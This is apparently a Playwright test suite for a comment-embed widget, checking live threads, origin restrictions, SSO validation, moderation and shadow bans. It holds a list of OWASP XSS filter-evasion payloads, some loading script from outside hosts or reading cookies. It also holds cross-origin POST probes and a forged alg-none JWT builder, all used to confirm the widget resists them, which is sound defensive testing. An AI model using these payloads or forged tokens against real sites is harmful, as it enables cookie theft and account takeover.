"""The embed widget in real Chromium, on partner pages served from another origin."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest
from playwright.async_api import Locator, Page, expect

from comments.models import Author, Comment, Status
from comments.store import create_store
from comments.web.app import create_app
from tests.api import stored_rows
from tests.widget.conftest import (
    OpenPage,
    PartnerSite,
    Stack,
    bodies,
    executed,
    form_message,
    live,
    partner_page,
    screenshot,
    serve,
    sso_token,
    widget_settings,
    write,
)

pytestmark = pytest.mark.asyncio(loop_scope="module")


def comment(page: Page, text: str) -> Locator:
    """A comment as shown (head, text, actions; not its replies), by its text."""
    return page.locator("#comments article.c-comment", has_text=text).first


async def test_comment_posted_in_one_page_appears_live_in_another(
    stack: Stack, open_page: OpenPage
) -> None:
    await stack.add_site("live")
    url = stack.page("live.html", site="live", article="2025/07/live", title="Two readers")
    ana = await open_page(url)
    ben = await open_page(url, color_scheme="dark")
    await live(ana)
    await live(ben)

    await write(ana, "Ana's first thoughts on the meeting.", name="Ana")
    await expect(ben.locator("#comments .c-body")).to_have_text(
        ["Ana's first thoughts on the meeting."]
    )
    await expect(ben.locator("#comments h2")).to_contain_text("(1)")
    await expect(ana.locator("#comments .c-compose textarea")).to_have_value("")

    # Ben answers in a thread; Ana sees the reply nested under her comment, live.
    await comment(ben, "Ana's first").get_by_role("button", name="Reply").click()
    reply = ben.locator("#comments .c-slot form")
    await reply.locator("textarea[name=body]").fill("Ben disagrees, politely.")
    await reply.locator("input[name=author_name]").fill("Ben")
    await reply.get_by_role("button", name="Reply").click()
    nested = ana.locator("#comments .c-item .c-replies .c-body")
    await expect(nested).to_have_text(["Ben disagrees, politely."])
    await expect(ana.locator("#comments h2")).to_contain_text("(2)")
    await screenshot(ana, "partner-light")
    await screenshot(ben, "partner-dark")

    # Ana comes back: her guest name is remembered and her comment is hers to delete.
    await ana.reload()
    await live(ana)
    await expect(ana.locator("#comments .c-compose input[name=author_name]")).to_have_value("Ana")
    own = comment(ana, "Ana's first")
    await expect(own.locator(".c-badge", has_text="You")).to_be_visible()
    await expect(comment(ana, "Ben disagrees").get_by_role("button", name="Delete")).to_have_count(
        0
    )
    await own.get_by_role("button", name="Delete").first.click()
    await own.locator(".c-confirm").get_by_role("button", name="Delete").click()
    # Ben's page: the comment is withdrawn live; the reply under it stays readable.
    await expect(ben.locator("#comments .c-body").first).to_have_text("This comment was removed.")
    await expect(ben.locator("#comments .c-body")).to_have_text(
        ["This comment was removed.", "Ben disagrees, politely."]
    )
    await expect(ben.locator("#comments h2")).to_contain_text("(1)")


# From the OWASP XSS Filter Evasion Cheat Sheet (alert() is hooked on every test page:
# a payload that runs leaves a trace in window.__xss).
XSS_PAYLOADS = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<iframe src=http://xss.rocks/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<svg/onload=alert('XSS')>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    "<img src=x onerror=alert(1)>",
    "\\\";alert('XSS');//",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<video><source onerror="alert(1)">',
    "<details open ontoggle=alert(1)>",
    '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="alert(1)">',
    # Schemes that must never become links (issue 17: bodies' http(s) URLs are links).
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "java\tscript:alert(1) jav&#x09;ascript:alert(1) java\u0001script:alert(1)",
    " javascript:alert(1)//http://",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1) VBScript:msgbox(1)",
    "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1)",
    "\uff48\uff54\uff54\uff50\uff53://example.com/full-width",
    "http:javascript:alert(1) https:/\\x.example http:// https://",
    '[x](javascript:alert(1)) <a href="javascript:alert(1)">x</a>',
]
# What a body's links may be: http(s) only, opened apart from the page, never followed
# by search engines as the partner's.
SAFE_LINK = (
    "a[href^='http://'][rel='nofollow ugc noopener noreferrer'][target=_blank],"
    "a[href^='https://'][rel='nofollow ugc noopener noreferrer'][target=_blank],"
    "a.c-perma[href^='#comment-']"
)
DANGEROUS = (
    "script, img, svg, iframe, object, embed, video, source, details, meta, table, "
    "input[type=image], a[href]:not("
    + SAFE_LINK
    + "), [style*=javascript], [onerror], [onload], [onmouseover]"
)


async def shadow_elements(page: Page, selector: str) -> int:
    count: int = await page.evaluate(
        "(s) => document.querySelector('#comments').shadowRoot.querySelectorAll(s).length",
        selector,
    )
    return count


async def test_xss_payloads_are_shown_as_text_and_never_run(
    stack: Stack, open_page: OpenPage
) -> None:
    # Pre-moderated: every payload waits in the console first, then goes live on approval.
    # Oldest first (default_order): the payloads read in the order they were sent.
    await stack.add_site("xss", premoderated=True, default_order="oldest")
    token = await stack.moderator("xss", "xavier")
    article = "2025/07/xss"
    url = stack.page("xss.html", site="xss", article=article, title="Hostile comments")
    reader = await open_page(url)
    await live(reader)

    ids = []
    for i, payload in enumerate(XSS_PAYLOADS):
        r = await stack.post("xss", article, payload, name=payload[:64] if i % 3 == 0 else "Eve")
        assert r.status_code == 202, r.text
        ids.append(r.json()["comment"]["id"])
    expected = [p.strip() for p in XSS_PAYLOADS]

    console = await open_page(f"{stack.url}/moderation")
    await console.locator("#token").fill(token)
    await console.locator("#token").press("Enter")
    await expect(console.locator("#queue .item")).to_have_count(len(XSS_PAYLOADS))
    shown = await console.locator("#queue .item .text").all_text_contents()
    assert sorted(shown) == sorted(expected)
    names = await console.locator("#queue .item .author").all_text_contents()
    assert {p[:64].strip() for p in XSS_PAYLOADS[::3]} <= set(names)
    assert await console.locator(f"#queue :is({DANGEROUS})").count() == 0

    async with stack.client() as http:
        for comment_id in ids:
            r = await http.post(
                f"/api/v1/moderation/comments/{comment_id}/approve",
                headers={"Authorization": f"Bearer {token}"},
            )
            assert r.status_code == 200, r.text
    # Live path: every payload arrives over the socket and is inserted as text.
    await expect(reader.locator("#comments .c-item")).to_have_count(len(XSS_PAYLOADS))
    assert await bodies(reader) == expected
    await expect(console.locator("#queue .item")).to_have_count(0)

    # Load path: the same thread rendered from the HTTP page.
    again = await open_page(url)
    await expect(again.locator("#comments .c-item")).to_have_count(len(XSS_PAYLOADS))
    assert await bodies(again) == expected
    names = await again.locator("#comments .c-name").all_text_contents()
    assert {p[:64].strip() for p in XSS_PAYLOADS[::3]} <= set(names)

    # Typed into the form: the author's own held comment, shown as text too.
    await write(again, XSS_PAYLOADS[-1], name="<img src=x onerror=alert('name')>")
    held = again.locator("#comments .c-pending")
    await expect(held.locator(".c-body")).to_have_text(XSS_PAYLOADS[-1])
    await expect(held.locator(".c-name")).to_have_text("<img src=x onerror=alert('name')>")

    for page in (reader, again, console):
        assert await executed(page) == []
    for page in (reader, again):
        assert await shadow_elements(page, DANGEROUS) == 0
    await screenshot(again, "partner-xss")


async def test_a_page_on_an_origin_the_site_does_not_allow_gets_nothing(
    stack: Stack, open_page: OpenPage
) -> None:
    await stack.add_site("guarded")
    article = "2025/07/guarded"
    assert (await stack.post("guarded", article, "Only for allowed pages")).status_code == 201
    page_html = partner_page(stack.url, site="guarded", article=article, title="Not a partner")
    stranger = await open_page(stack.stranger.add("guarded.html", page_html))
    allowed = await open_page(stack.page("guarded.html", site="guarded", article=article))

    await expect(stranger.locator("#comments .c-empty")).to_contain_text(
        "Could not reach the comment server"
    )
    await expect(stranger.locator("#comments .c-item")).to_have_count(0)
    await expect(allowed.locator("#comments .c-body")).to_have_text(["Only for allowed pages"])

    probe = """async ([base, article]) => {
      const api = base + '/api/v1/sites/guarded/articles/' + encodeURIComponent(article);
      const out = {};
      try { const r = await fetch(api + '/comments'); out.read = (await r.json()).comments.length; }
      catch (e) { out.read = 'blocked'; }
      try {
        const r = await fetch(api + '/comments', {method: 'POST',
          headers: {'Content-Type': 'application/json'},
          body: JSON.stringify({body: 'sneaky', author_name: 'Mallory'})});
        out.post = r.status;
      } catch (e) { out.post = 'blocked'; }
      out.socket = await new Promise((resolve) => {
        const ws = new WebSocket(base.replace('http', 'ws') + '/ws/v1/sites/guarded/articles/'
          + encodeURIComponent(article));
        ws.onopen = () => { resolve('open'); ws.close(); };
        ws.onclose = (e) => resolve('refused ' + e.code);
      });
      return out;
    }"""
    assert await stranger.evaluate(probe, [stack.url, article]) == {
        "read": "blocked",
        "post": "blocked",
        "socket": "refused 1006",
    }
    # The same probe from the allowed partner page reads, posts and connects.
    seen = await allowed.evaluate(probe, [stack.url, article])
    assert seen == {"read": 1, "post": 201, "socket": "open"}
    async with stack.client() as http:
        r = await http.get(f"/api/v1/sites/guarded/counts?article={article}")
    # The partner page's post counts; the stranger's never reached the server.
    assert r.json()["counts"][article] == 2
    await screenshot(stranger, "stranger-origin")


async def test_a_page_on_a_disallowed_origin_cannot_post_even_without_cors(
    stack: Stack, open_page: OpenPage
) -> None:
    """Issue 13: a no-cors text/plain POST is sent without a preflight, and got 201 and
    was published. Now nothing a foreign page sends is stored; the partner's widget still
    posts."""
    await stack.add_site("writes")
    article = "2025/07/writes"
    stranger = await open_page(stack.stranger.add("writes.html", "<!doctype html><p>hostile"))
    before = await stored_rows(stack.node.store)
    probe = """async ([base, article]) => {
      const url = base + '/api/v1/sites/writes/articles/' + encodeURIComponent(article)
        + '/comments';
      const body = JSON.stringify({body: 'posted by a hostile page', author_name: 'Mallory'});
      const out = {};
      // Opaque answer (no-cors): the page cannot see it, the server must refuse it.
      const plain = await fetch(url, {method: 'POST', mode: 'no-cors',
        headers: {'Content-Type': 'text/plain'}, body});
      out.plain = plain.type;
      try {
        const r = await fetch(url, {method: 'POST',
          headers: {'Content-Type': 'application/json'}, body});
        out.cors = r.status;
      } catch (e) { out.cors = 'blocked'; }
      const form = await fetch(url, {method: 'POST', mode: 'no-cors',
        body: new URLSearchParams({body})});
      out.form = form.type;
      return out;
    }"""
    assert await stranger.evaluate(probe, [stack.url, article]) == {
        "plain": "opaque",
        "cors": "blocked",
        "form": "opaque",
    }
    async with stack.client() as http:
        r = await http.get(f"/api/v1/sites/writes/counts?article={article}")
    assert r.json()["counts"][article] == 0
    assert await stored_rows(stack.node.store) == before  # not even held

    # The widget on the allowed partner page posts, live.
    reader = await open_page(stack.page("writes.html", site="writes", article=article))
    await live(reader)
    await write(reader, "From the partner's own page", name="Ana")
    await expect(reader.locator("#comments .c-body")).to_have_text(["From the partner's own page"])
    async with stack.client() as http:
        r = await http.get(f"/api/v1/sites/writes/articles/{article}/comments")
    assert [c["body"] for c in r.json()["comments"]] == ["From the partner's own page"]


async def test_signed_in_reader_posts_under_their_sso_identity(
    stack: Stack, open_page: OpenPage
) -> None:
    await stack.add_site("sso", guests=True)
    article = "2025/07/sso"
    url = stack.page(
        "sso.html", site="sso", article=article, sso_token=sso_token("u-17", "Sam Signed")
    )
    page = await open_page(url)
    await live(page)
    form = page.locator("#comments .c-compose form")
    await expect(form).to_contain_text("Commenting as Sam Signed")
    await expect(form.locator("input[name=author_name]")).to_have_count(0)

    await write(page, "Signed and sealed.")
    mine = comment(page, "Signed and sealed.")
    await expect(mine.locator(".c-name")).to_have_text("Sam Signed")
    await expect(mine.locator(".c-badge", has_text="You")).to_be_visible()
    async with stack.client() as http:
        r = await http.get(f"/api/v1/sites/sso/articles/{article}/comments")
    assert [c["author"] for c in r.json()["comments"]] == [{"id": "sso:u-17", "name": "Sam Signed"}]

    # Signing out in the partner's page turns the form back to a guest form.
    await page.evaluate("() => window.Comments.logout()")
    await expect(form.locator("input[name=author_name]")).to_be_visible()
    await expect(mine.locator(".c-badge", has_text="You")).to_be_hidden()
    await page.evaluate("(t) => window.Comments.login(t)", sso_token("u-17", "Sam Signed"))
    await expect(mine.locator(".c-badge", has_text="You")).to_be_visible()


def _unsigned(sub: str, name: str) -> str:
    def part(obj: dict[str, object]) -> str:
        return base64.urlsafe_b64encode(json.dumps(obj).encode()).rstrip(b"=").decode()

    header = part({"alg": "none", "typ": "JWT"})
    claims = part({"sub": sub, "name": name, "exp": 4102444800})
    return f"{header}.{claims}."  # no signature at all


@pytest.mark.parametrize(
    ("token", "message"),
    [
        (
            lambda: sso_token("u-1", "Sam", expires_in=-120),
            "Your sign-in has expired. Please sign in again to comment.",
        ),
        (
            lambda: sso_token("u-1", "Sam", secret="not-the-partners-secret-but-long-enough-0000"),
            "We could not verify your sign-in. Please sign in again to comment.",
        ),
        (
            lambda: _unsigned("u-1", "Sam"),
            "We could not verify your sign-in. Please sign in again to comment.",
        ),
    ],
    ids=["expired", "forged", "alg-none"],
)
async def test_bad_sso_tokens_are_refused_with_a_clear_message(
    stack: Stack, open_page: OpenPage, token: object, message: str
) -> None:
    if "sso-bad" not in await stack.node.store.list_sites():
        await stack.add_site("sso-bad", guests=False)
    article = "2025/07/sso-bad"
    page = await open_page(stack.page("sso-bad.html", site="sso-bad", article=article))
    await live(page)
    # Guests are off: without a sign-in there is no form, only an invitation.
    await expect(page.locator("#comments .c-compose")).to_contain_text("Sign in to join")
    await page.evaluate("(t) => window.Comments.login(t)", token())  # type: ignore[operator]
    await write(page, "Let me in.")
    await expect(form_message(page)).to_have_text(message)
    await expect(page.locator("#comments .c-item")).to_have_count(0)
    async with stack.client() as http:
        r = await http.get(f"/api/v1/sites/sso-bad/counts?article={article}")
    assert r.json()["counts"][article] == 0


async def test_held_comment_is_shown_to_its_author_alone_until_approved(
    stack: Stack, open_page: OpenPage
) -> None:
    await stack.add_site("held", default_order="oldest")
    token = await stack.moderator("held", "hana")
    article = "2025/07/held"
    url = stack.page("held.html", site="held", article=article)
    author = await open_page(url)
    other = await open_page(url)
    await live(author)
    await live(other)
    await write(author, "The usual suspects.", name="Kim")
    await expect(other.locator("#comments .c-body")).to_have_text(["The usual suspects."])

    await write(author, "you are an idiot", name="Kim")
    held = author.locator("#comments .c-pending")
    await expect(held.locator(".c-badge", has_text="Awaiting review")).to_be_visible()
    await expect(form_message(author)).to_contain_text("awaiting review")
    async with stack.client() as http:
        queue = await http.get(
            "/api/v1/moderation/sites/held/queue", headers={"Authorization": f"Bearer {token}"}
        )
        [item] = queue.json()["items"]
        assert item["body"] == "you are an idiot"
        # The other reader never sees it; their thread has only the first comment.
        await expect(other.locator("#comments .c-body")).to_have_text(["The usual suspects."])
        r = await http.post(
            f"/api/v1/moderation/comments/{item['id']}/approve",
            headers={"Authorization": f"Bearer {token}"},
        )
        assert r.status_code == 200
    await expect(other.locator("#comments .c-body")).to_have_text(
        ["The usual suspects.", "you are an idiot"]
    )
    await expect(author.locator("#comments .c-pending")).to_have_count(0)
    await expect(comment(author, "you are an idiot").locator(".c-held")).to_be_hidden()
    await expect(author.locator("#comments h2")).to_contain_text("(2)")


@pytest.mark.parametrize(
    ("overrides", "prepare", "message"),
    [
        ({}, "close", "Comments are closed on this article."),
        ({}, "ban", "You can no longer comment on this site."),
        (
            {"banned_words": ["frobnicate"]},
            None,
            "This site does not allow one of the words in your comment (\u201cfrobnicate\u201d)."
            " Please edit it and try again.",
        ),
        ({}, "duplicate", "You posted this same comment a moment ago."),
        (
            {"posts_per_minute_per_author": 1},
            "first",
            "You are going a little fast. Please wait",
        ),
    ],
    ids=["closed", "banned", "banned-word", "duplicate", "rate-limited"],
)
async def test_api_errors_reach_the_reader_as_clear_messages(
    stack: Stack,
    open_page: OpenPage,
    request: pytest.FixtureRequest,
    overrides: dict[str, object],
    prepare: str | None,
    message: str,
) -> None:
    slug = "err-" + request.node.callspec.id
    await stack.add_site(slug, **overrides)
    token = await stack.moderator(slug, "mod")
    auth = {"Authorization": f"Bearer {token}"}
    article = "2025/07/errors"
    page = await open_page(stack.page(f"{slug}.html", site=slug, article=article))
    await live(page)
    text = "Please frobnicate the summit." if overrides.get("banned_words") else "Fair point."
    if prepare in ("ban", "duplicate", "first"):
        await write(page, text, name="Rita")
        await expect(page.locator("#comments .c-body")).to_have_text([text])
    async with stack.client() as http:
        if prepare == "close":
            r = await http.patch(
                f"/api/v1/moderation/sites/{slug}/articles/{article}",
                json={"closed": True},
                headers=auth,
            )
            assert r.status_code == 200
        if prepare == "ban":
            author_id = (
                await http.get(f"/api/v1/sites/{slug}/articles/{article}/comments")
            ).json()["comments"][0]["author"]["id"]
            r = await http.post(
                f"/api/v1/moderation/sites/{slug}/authors/{author_id}/ban",
                json={"reason": "test"},
                headers=auth,
            )
            assert r.status_code == 200
    body = text if prepare == "duplicate" else text + " Again."
    await write(page, body, name="Rita")
    await expect(form_message(page)).to_contain_text(message)
    if prepare == "close":
        # A reader arriving later finds no form at all, just the notice.
        later = await open_page(page.url)
        await expect(later.locator("#comments .c-compose")).to_have_text(message)
        await expect(later.locator("#comments textarea")).to_have_count(0)


async def test_report_sends_a_comment_to_the_moderators(stack: Stack, open_page: OpenPage) -> None:
    await stack.add_site("report", reports_before_review=1)
    token = await stack.moderator("report", "rob")
    article = "2025/07/report"
    r = await stack.post("report", article, "Buy cheap watches", name="Spammer")
    assert r.status_code == 201
    page = await open_page(stack.page("report.html", site="report", article=article))
    target = comment(page, "Buy cheap watches")
    await target.get_by_role("button", name="Report").click()
    await target.get_by_label("Reason").select_option("Spam")
    await target.get_by_role("button", name="Send report").click()
    await expect(target.locator(".c-slot")).to_contain_text("moderators will take a look")
    await expect(target.get_by_role("button", name="Reported")).to_be_disabled()
    async with stack.client() as http:
        queue = await http.get(
            "/api/v1/moderation/sites/report/queue", headers={"Authorization": f"Bearer {token}"}
        )
    [item] = queue.json()["items"]
    assert item["body"] == "Buy cheap watches" and item["reports"] == 1


async def test_long_thread_opens_on_newest_page_and_new_comments_wait_while_reading(
    stack: Stack, open_page: OpenPage
) -> None:
    await stack.add_site("long")
    article = "2025/07/long"
    for i in range(1, 61):
        r = await stack.post("long", article, f"Comment number {i}", name=f"Reader {i}")
        assert r.status_code == 201, r.text
    url = stack.page(
        "long.html",
        site="long",
        article=article,
        before="<p>" + "An article paragraph. " * 400 + "</p>",
        after="<p>" + "The partner's footer. " * 300 + "</p>",
    )
    page = await open_page(url)
    await live(page)
    # The newest 50, newest first (the default order); the ten before wait behind
    # "Load more comments", below them.
    await expect(page.locator("#comments .c-item")).to_have_count(50)
    assert (await bodies(page))[0] == "Comment number 60"
    assert (await bodies(page))[-1] == "Comment number 11"
    await expect(page.locator("#comments .c-count")).to_have_text("(60)")

    # Scrolled into the thread, a new comment waits behind a button: nothing moves.
    await comment(page, "Comment number 30").scroll_into_view_if_needed()
    await page.evaluate("() => window.scrollBy(0, 200)")
    scrolled = await page.evaluate("() => window.scrollY")
    assert (await stack.post("long", article, "Fresh news!", name="Newcomer")).status_code == 201
    button = page.get_by_role("button", name="1 new comment")
    await expect(button).to_be_visible()
    await expect(page.locator("#comments .c-count")).to_have_text("(61)")
    await expect(page.locator("#comments .c-item")).to_have_count(50)
    assert await page.evaluate("() => window.scrollY") == scrolled
    await button.click()
    await expect(page.locator("#comments .c-item")).to_have_count(51)
    assert (await bodies(page))[0] == "Fresh news!"
    await expect(comment(page, "Fresh news!")).to_be_focused()

    await page.get_by_role("button", name="Load more comments").click()
    await expect(page.locator("#comments .c-item")).to_have_count(61)
    assert (await bodies(page))[-1] == "Comment number 1"
    await expect(page.get_by_role("button", name="Load more comments")).to_be_hidden()

    # A site that chose live_insert gets new comments inserted at once, even mid-thread.
    await stack.set_site("long", live_insert=True)
    await page.reload()
    await live(page)
    await comment(page, "Comment number 40").scroll_into_view_if_needed()
    await page.evaluate("() => window.scrollBy(0, 200)")
    assert (await stack.post("long", article, "Straight in.", name="Newcomer")).status_code == 201
    await expect(comment(page, "Straight in.")).to_be_attached()
    await expect(page.get_by_role("button", name="1 new comment")).to_be_hidden()


async def test_widget_reconnects_resumes_with_since_and_reloads_on_reset(
    open_page: OpenPage, tmp_path: Path
) -> None:
    partner = PartnerSite()
    await partner.start()
    first_db = f"sqlite+aiosqlite:///{tmp_path / 'first.db'}"
    server = await serve(create_app(widget_settings(first_db)))
    port = server.port
    try:
        store = create_store(first_db)
        await store.create_site("recon", {"guests": True, "origins": [partner.origin]})
        article = "2025/07/reconnect"
        guest, _ = await store.create_guest("recon", "Ola")
        for text in ("one", "two"):
            await store.create_comment(
                site="recon",
                article=article,
                author=guest,
                body=text,
                parent=None,
                status=Status.PUBLISHED,
            )
        url = partner.add("reconnect.html", partner_page(server.url, site="recon", article=article))
        page = await open_page()
        sockets: list[str] = []
        page.on("websocket", lambda ws: sockets.append(ws.url))
        await page.goto(url)
        await live(page)
        assert sockets[-1].endswith("?since=2")

        # The server goes away; meanwhile a comment is published (seq 3).
        await server.stop()
        await expect(page.locator("#comments .c-live")).to_have_text("Reconnecting\u2026")
        await store.create_comment(
            site="recon",
            article=article,
            author=Author(id=guest.id, name="Ola"),
            body="three, while you were away",
            parent=None,
            status=Status.PUBLISHED,
        )
        server = await serve(create_app(widget_settings(first_db)), port)
        # Newest first: the widget's default order.
        await expect(page.locator("#comments .c-body")).to_have_text(
            ["three, while you were away", "two", "one"]
        )
        await live(page)
        assert sockets[-1].endswith("?since=2")  # resumed from its cursor, nothing lost

        # A server whose stream is behind the page's cursor answers `reset`: the widget
        # reloads the thread from scratch.
        await server.stop()
        await store.close()
        second_db = f"sqlite+aiosqlite:///{tmp_path / 'second.db'}"
        store = create_store(second_db)
        await store.migrate()
        await store.create_site("recon", {"guests": True, "origins": [partner.origin]})
        other, _ = await store.create_guest("recon", "Pia")
        await store.create_comment(
            site="recon",
            article=article,
            author=other,
            body="a different history",
            parent=None,
            status=Status.PUBLISHED,
        )
        server = await serve(create_app(widget_settings(second_db)), port)
        await expect(page.locator("#comments .c-body")).to_have_text(["a different history"])
        await live(page)
        assert sockets[-1].endswith("?since=1")
        await store.close()
    finally:
        await server.stop()
        assert partner.running is not None
        await partner.running.stop()


async def test_count_js_fills_every_counter_on_a_listing_page(
    stack: Stack, open_page: OpenPage
) -> None:
    await stack.add_site("counts")
    for article, n in (("2025/07/a", 2), ("b", 1)):
        for i in range(n):
            assert (await stack.post("counts", article, f"c{i}", name=f"N{i}")).status_code == 201
    assert (await stack.post("counts", "b", "you are an idiot", name="Rude")).status_code == 202
    listing = "".join(
        f'<li><a href="#">Story {a}</a> · <span data-comments-count="{a}">…</span> comments</li>'
        for a in ("2025/07/a", "b", "never-commented", "2025/07/a")
    )
    page = await open_page(
        stack.partner.add(
            "listing.html",
            partner_page(
                stack.url,
                site="counts",
                title="Latest stories",
                before=f"<ul>{listing}</ul>",
                count_js=True,
            ),
        )
    )
    await expect(page.locator("[data-comments-count]")).to_have_text(["2", "1", "0", "2"])
    await screenshot(page, "count-listing")


async def test_widget_skips_redacted_events_and_keeps_its_cursor(
    open_page: OpenPage, tmp_path: Path
) -> None:
    """Away while a comment came and went, the widget resumes with a replay that holds
    ``comment.redacted`` where that comment was: it shows nothing of it, and its cursor
    moves past it (the next reconnect asks for what follows)."""
    partner = PartnerSite()
    await partner.start()
    db = f"sqlite+aiosqlite:///{tmp_path / 'redacted.db'}"
    server = await serve(create_app(widget_settings(db)))
    port = server.port
    store = create_store(db)
    try:
        await store.create_site("redact", {"guests": True, "origins": [partner.origin]})
        article = "2025/07/redacted"
        guest, _ = await store.create_guest("redact", "Ola")

        async def publish(text: str) -> Comment:
            comment, _ = await store.create_comment(
                site="redact",
                article=article,
                author=guest,
                body=text,
                parent=None,
                status=Status.PUBLISHED,
            )
            return comment

        for text in ("one", "two"):
            await publish(text)
        url = partner.add("redacted.html", partner_page(server.url, site="redact", article=article))
        page = await open_page()
        sockets: list[str] = []
        page.on("websocket", lambda ws: sockets.append(ws.url))
        await page.goto(url)
        await live(page)
        assert sockets[-1].endswith("?since=2")

        # Away: a comment is published (3) and rejected (4: 3 is redacted), then 5.
        await server.stop()
        gone = await publish("my phone number is 555-0100, oops")
        assert await store.transition(gone.id, Status.REJECTED, allowed_from=[Status.PUBLISHED])
        await publish("five")
        server = await serve(create_app(widget_settings(db)), port)
        await expect(page.locator("#comments .c-body")).to_have_text(["five", "two", "one"])
        await live(page)
        assert sockets[-1].endswith("?since=2")
        await expect(page.locator("#comments h2")).to_contain_text("(3)")

        await server.stop()
        server = await serve(create_app(widget_settings(db)), port)
        await live(page)
        assert sockets[-1].endswith("?since=5"), sockets
        assert "555-0100" not in await page.locator("#comments").inner_text()
    finally:
        await store.close()
        await server.stop()
        assert partner.running is not None
        await partner.running.stop()


async def test_shadow_banned_author_sees_their_comment_live_and_after_reload_nobody_else_does(
    stack: Stack, open_page: OpenPage
) -> None:
    await stack.add_site("shadow", default_order="oldest")
    token = await stack.moderator("shadow", "sam")
    article = "2025/07/shadow"
    troll = await open_page(stack.page("shadow.html", site="shadow", article=article))
    # Another reader, signed in: on the same address as the troll (this machine), which
    # a network ban does not touch for signed-in readers.
    other_url = stack.page(
        "shadow-sso.html", site="shadow", article=article, sso_token=sso_token("nia", "Nia")
    )
    other = await open_page(other_url)
    await live(troll)
    await live(other)
    await write(troll, "First, a polite remark.", name="Tom")
    await expect(other.locator("#comments .c-body")).to_have_text(["First, a polite remark."])

    async with stack.client() as http:
        thread = await http.get(f"/api/v1/sites/shadow/articles/{article}/comments")
        author_id = thread.json()["comments"][0]["author"]["id"]
        r = await http.post(
            f"/api/v1/moderation/sites/shadow/authors/{author_id}/ban",
            json={"reason": "trolling", "shadow": True},
            headers={"Authorization": f"Bearer {token}"},
        )
        assert r.status_code == 200, r.text

    # The troll's comment looks published to the troll: no review badge, counted.
    await write(troll, "Now the real trolling.", name="Tom")
    await expect(troll.locator("#comments .c-body")).to_have_text(
        ["First, a polite remark.", "Now the real trolling."]
    )
    await expect(troll.locator("#comments .c-pending")).to_have_count(0)
    await expect(form_message(troll)).to_have_text("")
    await expect(troll.locator("#comments h2")).to_contain_text("(2)")
    # The other reader's next live comment reaches both pages; the troll's never did.
    await write(other, "Nia here, with a calm point.")
    expected_other = ["First, a polite remark.", "Nia here, with a calm point."]
    await expect(other.locator("#comments .c-body")).to_have_text(expected_other)
    await expect(troll.locator("#comments .c-body")).to_have_text(
        ["First, a polite remark.", "Now the real trolling.", "Nia here, with a calm point."]
    )
    await expect(other.locator("#comments h2")).to_contain_text("(2)")

    # Reloaded, each sees what they saw: the troll their comment in place, Nia without it.
    await troll.reload()
    await live(troll)
    await expect(troll.locator("#comments .c-body")).to_have_text(
        ["First, a polite remark.", "Now the real trolling.", "Nia here, with a calm point."]
    )
    await expect(
        comment(troll, "Now the real trolling.").locator(".c-badge", has_text="You")
    ).to_be_visible()
    await expect(troll.locator("#comments .c-pending")).to_have_count(0)
    await expect(troll.locator("#comments h2")).to_contain_text("(3)")
    await other.reload()
    await live(other)
    await expect(other.locator("#comments .c-body")).to_have_text(expected_other)
    await expect(other.locator("#comments h2")).to_contain_text("(2)")
    # A reader arriving without any identity sees the public thread.
    fresh = await open_page(stack.page("shadow-fresh.html", site="shadow", article=article))
    await live(fresh)
    await expect(fresh.locator("#comments .c-body")).to_have_text(expected_other)
    await screenshot(troll, "shadow-banned-author")
